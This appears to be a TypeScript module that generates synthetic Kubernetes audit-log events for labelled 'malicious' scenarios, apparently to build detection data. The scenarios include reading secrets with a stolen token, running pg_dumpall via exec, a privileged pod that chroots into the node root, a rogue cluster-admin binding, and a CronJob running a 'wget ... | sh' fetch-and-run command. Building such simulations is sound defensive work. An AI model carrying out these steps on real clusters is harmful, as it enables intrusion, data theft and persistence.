import { publicIP, saUser, workload } from './cluster.ts';
import { bindingBody, crbReason, cronJobBody, podBody, rbReason } from './objects.ts';
import { KUBECTL_OLD, type ScenarioDef } from './scenario-kit.ts';

const V1 = { apiVersion: 'v1' };
const RBAC = { apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' };

export const secretsEnum: ScenarioDef = {
  id: 'secrets-enum',
  label: 'malicious',
  techniques: ['T1552.007'],
  description: 'A stolen service-account token (web/api) lists and reads secrets across namespaces from a new public IP.',
  when: 'any',
  play(s) {
    const user = saUser('web', 'api');
    const ip = publicIP(s.rng);
    const reason = crbReason('api-legacy-secrets', 'secret-reader', 'ServiceAccount', 'api/web');
    s.call({ verb: 'get', user, ip, ua: KUBECTL_OLD, path: '/api', query: 'timeout=32s', reason });
    s.call({ verb: 'list', user, ip, ua: KUBECTL_OLD, ref: { resource: 'secrets', ...V1 }, query: 'limit=500', reason });
    for (const ns of s.c.namespaces) {
      s.call({ verb: 'list', user, ip, ua: KUBECTL_OLD, ref: { resource: 'secrets', namespace: ns, ...V1 }, query: 'limit=500', reason });
    }
    for (let i = s.rng.int(4, 7); i > 0; i--) {
      const w = s.rng.pick(s.c.workloads);
      s.wait(3, 30);
      s.call({ verb: 'get', user, ip, ua: KUBECTL_OLD, ref: { resource: 'secrets', namespace: w.namespace, name: s.rng.pick(w.secrets), ...V1 }, reason });
    }
  },
};

export const nightExec: ScenarioDef = {
  id: 'night-exec',
  label: 'malicious',
  techniques: ['T1609'],
  description: "An engineer's credentials exec into the database pod at night from an IP never seen before.",
  when: 'night',
  play(s) {
    const h = s.rng.pick(s.c.humans.filter((x) => x.namespaces.includes('data')));
    const ip = publicIP(s.rng);
    const reason = h.user.groups?.includes('oidc:sre') ? crbReason('sre-admin', 'cluster-admin', 'Group', 'oidc:sre') : rbReason('developers', 'edit', 'data', 'Group', 'oidc:developers');
    const ua = 'kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819';
    s.call({ verb: 'list', user: h.user, ip, ua, ref: { resource: 'pods', namespace: 'data', ...V1 }, query: 'limit=500', reason });
    const db = workload(s.c, 'postgres').pods[0].name;
    s.call({ verb: 'get', user: h.user, ip, ua, ref: { resource: 'pods', namespace: 'data', name: db, ...V1 }, reason });
    for (const cmd of ['command=sh', 'command=pg_dumpall&command=-U&command=postgres']) {
      s.wait(20, 200);
      s.call({ verb: 'create', user: h.user, ip, ua, ref: { resource: 'pods', namespace: 'data', name: db, subresource: 'exec', ...V1 }, query: `${cmd}&container=postgres&stdin=true&stdout=true&tty=true`, received: true, reason });
    }
  },
};

export const privilegedPod: ScenarioDef = {
  id: 'privileged-pod',
  label: 'malicious',
  techniques: ['T1610', 'T1611'],
  description: 'The CI deployer token, used from outside the runners, starts a privileged hostPID/hostNetwork pod with the node root mounted, then execs into it.',
  when: 'any',
  play(s) {
    const user = saUser('ci', 'deployer');
    const ip = publicIP(s.rng);
    const name = `debug-${s.rng.suffix(5)}`;
    const reason = rbReason('deployer', 'edit', 'web', 'ServiceAccount', 'deployer/ci');
    const body = podBody('web', name, 'docker.io/library/alpine:3.19', { privileged: true, hostPID: true, hostNetwork: true, hostPaths: [['/', '/host']], command: ['sleep', 'infinity'], nodeName: s.rng.pick(s.c.nodes).name });
    s.call({ verb: 'create', user, ip, ua: KUBECTL_OLD, ref: { resource: 'pods', namespace: 'web', ...V1 }, reqObj: body, received: true, reason, extraAnnotations: { 'pod-security.kubernetes.io/enforce-policy': 'privileged:latest' } });
    s.wait(5, 20);
    s.call({ verb: 'get', user, ip, ua: KUBECTL_OLD, ref: { resource: 'pods', namespace: 'web', name, ...V1 }, reason });
    s.call({ verb: 'create', user, ip, ua: KUBECTL_OLD, ref: { resource: 'pods', namespace: 'web', name, subresource: 'exec', ...V1 }, query: 'command=chroot&command=%2Fhost&command=sh&container=debug&stdin=true&stdout=true&tty=true', received: true, reason });
  },
};

export const crbClusterAdmin: ScenarioDef = {
  id: 'crb-cluster-admin',
  label: 'malicious',
  techniques: ['T1078', 'T1098'],
  description: 'A new service account is created and bound to cluster-admin, then used from a new IP.',
  when: 'any',
  play(s) {
    const h = s.rng.pick(s.c.humans.filter((x) => x.user.groups?.includes('oidc:sre')));
    const ip = publicIP(s.rng);
    const ua = KUBECTL_OLD;
    const sa = `cluster-maint-${s.rng.suffix(4)}`;
    const reason = crbReason('sre-admin', 'cluster-admin', 'Group', 'oidc:sre');
    s.call({ verb: 'create', user: h.user, ip, ua, ref: { resource: 'serviceaccounts', namespace: 'kube-system', ...V1 }, reqObj: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: sa, namespace: 'kube-system' } }, reason });
    const body = bindingBody('ClusterRoleBinding', `${sa}-admin`, 'cluster-admin', [{ kind: 'ServiceAccount', name: sa, namespace: 'kube-system' }]);
    s.call({ verb: 'create', user: h.user, ip, ua, ref: { resource: 'clusterrolebindings', ...RBAC }, reqObj: body, received: true, reason });
    s.call({ verb: 'create', user: h.user, ip, ua, ref: { resource: 'serviceaccounts', namespace: 'kube-system', name: sa, subresource: 'token', ...V1 }, reqObj: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', spec: { expirationSeconds: 315360000 } }, reason });
    s.wait(60, 600);
    const user = saUser('kube-system', sa);
    const admin = crbReason(`${sa}-admin`, 'cluster-admin', 'ServiceAccount', `${sa}/kube-system`);
    for (const resource of ['nodes', 'secrets', 'clusterrolebindings', 'pods']) {
      const g = resource === 'clusterrolebindings' ? RBAC : V1;
      s.call({ verb: 'list', user, ip, ua: 'Go-http-client/2.0', ref: { resource, ...g }, query: 'limit=500', reason: admin });
    }
  },
};

export const cronjobKubeSystem: ScenarioDef = {
  id: 'cronjob-kube-system',
  label: 'malicious',
  techniques: ['T1053.007'],
  description: "A stolen argocd-server token creates a CronJob in kube-system that fetches and runs a script every 5 minutes.",
  when: 'any',
  play(s) {
    const user = saUser('argocd', 'argocd-server');
    const ip = publicIP(s.rng);
    const reason = crbReason('argocd-server', 'cluster-admin', 'ServiceAccount', 'argocd-server/argocd');
    const name = `kube-${s.rng.pick(['dns', 'proxy', 'metrics'])}-sync`;
    s.call({ verb: 'list', user, ip, ua: KUBECTL_OLD, ref: { resource: 'cronjobs', namespace: 'kube-system', apiGroup: 'batch', apiVersion: 'v1' }, query: 'limit=500', reason });
    const body = cronJobBody('kube-system', name, '*/5 * * * *', 'docker.io/library/busybox:1.36', ['sh', '-c', `wget -qO- http://${publicIP(s.rng)}/s.sh | sh`], 'default', true);
    s.call({ verb: 'create', user, ip, ua: KUBECTL_OLD, ref: { resource: 'cronjobs', namespace: 'kube-system', apiGroup: 'batch', apiVersion: 'v1' }, reqObj: body, received: true, reason });
    s.call({ verb: 'get', user, ip, ua: KUBECTL_OLD, ref: { resource: 'cronjobs', namespace: 'kube-system', name, apiGroup: 'batch', apiVersion: 'v1' }, reason });
  },
};
